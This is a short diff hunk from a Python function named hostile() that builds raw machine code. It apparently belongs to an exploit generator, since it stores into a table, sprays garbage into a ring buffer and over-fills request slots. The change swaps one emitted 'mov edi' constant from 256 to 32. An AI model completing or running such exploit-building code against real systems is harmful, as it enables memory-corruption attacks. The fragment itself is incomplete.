@@ -81,7 +81,7 @@ def hostile() -> bytes:
         program.store(_TABLE + 8 * _REF, 1)
         _say(program, place_at, length, ports[_STORE_PORT])
         _pause(program)
-    program.raw("bf00010000")  # mov edi, 256
+    program.raw("bf20000000")  # mov edi, 32
     rounds = len(program.code)
     _garbage(program, _RING, PAGE)
     program.copy(_RING + 8, _RING)  # as many requests as answers, and 9 more
